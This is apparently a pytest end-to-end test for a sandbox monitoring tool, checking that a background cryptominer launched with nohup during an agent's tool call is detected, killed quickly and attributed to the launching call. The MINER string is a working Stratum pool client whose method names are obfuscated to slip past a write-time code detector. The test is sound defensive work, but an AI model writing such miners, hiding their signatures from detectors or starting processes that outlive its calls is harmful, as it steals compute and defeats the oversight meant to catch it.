"""The issue's end-to-end case: a background hashing loop that speaks Stratum to the
lab's mining pool, started with ``nohup … &`` in one call and noticed during a later
one, is killed fast and charged to the call that started it."""

from __future__ import annotations

import os
import time
from collections.abc import Iterator

import pytest

from bastion import Policy, Session
from bastion.engine.build import build_engine
from bastion.events import Action, EventKind
from bastion.lab import Lab
from bastion.respond import Responder

from .monitor import alive, events_of

# The method names are computed at run time: a pool client whose text carries them
# is refused when it is written (mining.stratum_client_code); this one is the case only
# the runtime path (the gateway naming Stratum on the wire) can catch.
MINER = r"""
import hashlib, json, socket
M = bytes(b - 1 for b in b"njojoh/").decode()  # "mining.", computed: not a constant
def pool():
    try:
        s = socket.create_connection(("203.0.113.33", 3333), 5)
        s.sendall(json.dumps({"id": 1, "method": M + "subscribe", "params": ["w"]}).encode()
                  + b"\n")
        return s
    except OSError:
        return None  # refused: keep hashing, try again later (as miners do)
s = pool()
h = b"job"
n = 0
while True:
    h = hashlib.sha256(h).digest()
    n += 1
    if n % 200000 == 0:
        try:
            s.sendall(json.dumps({"id": 4, "method": M + "submit",
                                  "params": [h.hex()]}).encode() + b"\n")
        except (OSError, AttributeError):
            s = pool()
"""

POLICY = {
    "name": "stratum-e2e",
    "network": {"initial_phase": "agent",
                "phases": {"agent": {"allow": [{"cidr": "203.0.113.33/32", "port": 3333}]}}},
    # keep the session alive after the verdict so the test can look at everything
    "response": {"critical": "kill", "high": "kill"},
}


@pytest.fixture(scope="module")
def lab() -> Iterator[Lab]:
    with Lab(f"bstls{os.getpid() % 1000000}").active() as instance:
        yield instance


def test_background_stratum_miner_is_killed_and_charged_to_its_call(lab, state_dir, sensors):
    policy = Policy.from_dict(POLICY)
    with Session(policy, state_dir=state_dir, lab=True, engine=build_engine(policy),
                 responder=Responder(policy.response)) as s:
        s.write_file("/workspace/w.py", MINER, call_id="c1", step=1)
        started = time.monotonic()
        r = s.exec("nohup python3 /workspace/w.py >/dev/null 2>&1 &", call_id="c3", step=3)
        assert r.exit_code == 0, r.stderr
        later = s.exec("sleep 2.5", call_id="c9", step=9)
        assert later.exit_code == 0
        mining = [v for v in s.verdicts if v.action is Action.KILL
                  and ("mining" in v.categories)]
        assert mining, [(v.rule_id, v.call_id, v.action) for v in s.verdicts]
        first = min(mining, key=lambda v: v.ts)
        assert first.call_id == "c3" and first.step == 3
        kill = next(e for e in events_of(s, EventKind.ACTION)
                    if e.fields["action.verdict"] == first.id)
        assert kill.ts / 1e9 - started < 2.5
        miners = [e.pid for e in events_of(s, EventKind.EXEC)
                  if "/workspace/w.py" in str(e.fields.get("proc.cmdline"))]
        assert miners and not any(alive(p) for p in miners)
        # every detection that fired is charged to c3, whichever sensor saw it
        assert {v.call_id for v in mining} == {"c3"}, [(v.rule_id, v.call_id) for v in mining]


